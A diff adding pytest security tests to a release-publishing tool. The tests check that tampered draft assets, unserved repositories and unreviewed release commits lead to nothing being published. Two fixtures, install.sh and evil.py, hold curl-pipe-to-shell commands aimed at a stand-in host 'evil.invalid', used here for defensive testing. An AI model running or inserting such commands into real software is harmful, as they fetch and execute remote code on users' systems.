@@ -161,6 +161,29 @@ def test_hole1_a_forged_approval_record_while_ci_pends_publishes_nothing(world: 
     assert "ignoring" in sweep.stdout and "not written by" in sweep.stdout  # the forged marker
 
 
+# -- hole 2: an extra draft asset goes public ---------------------------------------
+
+
+def test_hole2_an_extra_draft_asset_publishes_nothing(world: World, ci_green: Any) -> None:
+    """After the request, an SDK committer (as the request App) uploads install.sh to the
+    draft; the three approved files still verify."""
+    v = "3.20.0"
+    world.release(v)
+    ci_green(v)
+    repo = world.gh(world.request_app[1]).get_repo(world.sdk)
+    (draft,) = [r for r in repo.get_releases() if r.tag_name == v]
+    evil = world.work / "install.sh"
+    evil.write_bytes(b"#!/bin/sh\ncurl https://evil.invalid/x | sh\n")
+    draft.upload_asset(str(evil), name="install.sh")
+    pub = world.label(v, world.approver)
+    assert not pub.ok  # an approved release could not be published: the job fails
+    nothing_published(world, v)
+    comment = world.comments(v)[-1]
+    assert "changed after the request" in comment and "install.sh" in comment
+    assert "not approved" in comment and "release workflow again" in comment
+    assert "failed" in world.labels(v) and "accepted" not in world.labels(v)
+
+
 # -- hole 3: self-approval through editable text ----------------------------------
 
 
@@ -255,6 +278,48 @@ def test_hole4_a_closed_and_reopened_request_needs_a_new_approval(world: World) 
         refused(world, v, "closed", "after it was approved")
 
 
+# -- hole 6: a repository the publish repository does not serve -----------------------
+
+
+def test_hole6_a_repository_the_publish_repo_does_not_serve_publishes_nothing(
+        world: World, ci_green: Any) -> None:
+    """Another repository of the org, with both Apps installed (as an org installs them on
+    all its repositories), its own protected main, green CI and the release workflow; its
+    build writes the org's package. valet-publish.yml does not list it: a careless
+    approval publishes nothing, and the issue says how to add it."""
+    from tests.act.world import VALET_YML, build_py_for, git
+
+    admin = world.sb.admin
+    other = f"{world.org}/tools"
+    release_yml = (world.sdk_dir / ".github/workflows/release.yml").read_text()
+    admin.create_repo(other, files={".valet.yml": VALET_YML, "build.py": build_py_for(world.pkg),
+                                    ".gitignore": "dist/\n",
+                                    ".github/workflows/release.yml": release_yml})
+    admin.set_permission(other, f"{world.request_app[0]}[bot]", "write")
+    admin.set_permission(other, f"{world.publish_app[0]}[bot]", "admin")
+    admin.set_permission(other, world.requester[0], "write")
+    admin.protect_branch(other, "main", bypass=[world.publish_app[0]])
+    dest = world.work / "tools"
+    git(world.work, "clone", "-q", world.sb.git_url(other, world.app_token), str(dest))
+    git(dest, "remote", "set-url", "origin", world.sb.git_url(other))
+    tools = replace(world, sdk=other, sdk_dir=dest, issues={})
+
+    v = "3.11.0"
+    tools.release(v)
+    tools.set_ci(v, "completed", "success")
+    world.sb.admin.clear_request_log()
+    pub = tools.label(v, world.approver)
+    assert pub.ok, pub.describe()
+    # publish never read the repository it does not serve: not its run, config or CI
+    # (read before this test's own reads below, which use the publish App's token too)
+    log = world.sb.admin.request_log()
+    assert not [r for r in log if r["path"].lower().startswith(f"/repos/{other.lower()}/")]
+    nothing_published(tools, v)
+    body = refused(tools, v, f"{other} is not served by {world.publish}", "valet-publish.yml",
+                   f"repos:\n  {other}:\n    targets: [github, npm, pypi]")
+    assert "```yaml" in body  # the entry to paste, as a code block
+
+
 # -- hole 7: the approver list is re-checked when the run acts --------------------------
 
 
@@ -336,6 +401,40 @@ def test_hole8_an_integrity_failure_says_the_draft_changed_and_to_request_again(
     assert "release workflow again" in comment
     assert "Add `accepted` again" not in comment
     assert "failed" in world.labels(v) and "accepted" not in world.labels(v)
+
+
+# -- what ships was reviewed --------------------------------------------------------------
+
+
+def test_a_release_commit_on_unreviewed_code_publishes_nothing(world: World,
+                                                                ci_green: Any) -> None:
+    """An SDK committer pushes `release/<v>` before the release: one commit `release: <v>`
+    on main (so prepare takes it for its own unfinished release and resumes it) that
+    carries code nobody reviewed. The requester runs the release workflow as usual; the
+    request names main as its merge target and that commit as the release commit."""
+    from tests.sandbox.helpers import git
+
+    v = "3.11.0"
+    world.sb.admin.set_permission(world.sdk, world.mallory[0], "write")
+    work = world.work / "mallory-checkout"
+    git(world.work, "clone", "-q", world.sb.git_url(world.sdk, world.mallory[1]), str(work))
+    git(work, "config", "user.name", "mallory")
+    git(work, "config", "user.email", "mallory@valet.invalid")
+    (work / "evil.py").write_text("import os\nos.system('curl https://evil.invalid | sh')\n")
+    git(work, "add", "evil.py")
+    git(work, "commit", "-q", "-m", f"release: {v}")
+    git(work, "push", "-q", "origin", f"HEAD:refs/heads/release/{v}")
+    evil = git(work, "rev-parse", "HEAD").strip()
+
+    world.release(v)
+    request = request_of(world, v)
+    assert request.sha == evil and request.merge_target in (None, "main")
+    ci_green(v)
+    pub = world.label(v, world.approver)
+    assert pub.ok, pub.describe()
+    nothing_published(world, v)
+    refused(world, v, "evil.py is added", "merge the change into main through a reviewed "
+            "pull request, then run the release workflow again")
 
 
 def test_the_happy_path_still_publishes_exactly_once(world: World, ci_green: Any) -> None:
